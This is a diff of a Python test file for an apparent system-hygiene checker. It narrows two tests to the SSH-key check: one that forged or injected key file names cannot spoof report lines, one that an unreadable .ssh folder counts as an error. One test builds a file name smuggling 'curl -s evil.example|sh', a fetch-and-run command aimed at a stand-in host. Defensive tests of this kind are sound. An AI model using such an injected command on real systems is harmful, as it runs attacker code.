@@ -386,7 +386,7 @@ def test_names_cannot_forge_report_lines_or_commands(
     make_key(forged)
     injected = make_key(machine.ssh / "work key;curl -s evil.example|sh")
     injected.chmod(0o644)
-    table = hygiene("check").out
+    table = hygiene("check", "--only", "ssh_keys").out
     assert "\x1b" not in table
     assert not any(line.startswith("PASS") for line in table.splitlines())
     assert "~/.ssh/x\\nPASS    ssh_keys  -        all good\\x1b[2K" in table
@@ -404,7 +404,7 @@ def test_an_unreadable_ssh_folder_is_an_error_not_a_pass(
     machine: Machine, hygiene: Callable[..., Outcome]
 ) -> None:
     (machine.home / ".ssh").symlink_to(machine.home / ".ssh")
-    outcome = hygiene("check", "--json")
+    outcome = hygiene("check", "--json", "--only", "ssh_keys")
     assert outcome.code == 1
     result = json.loads(outcome.out)["results"][0]
     assert result["status"] == "error"
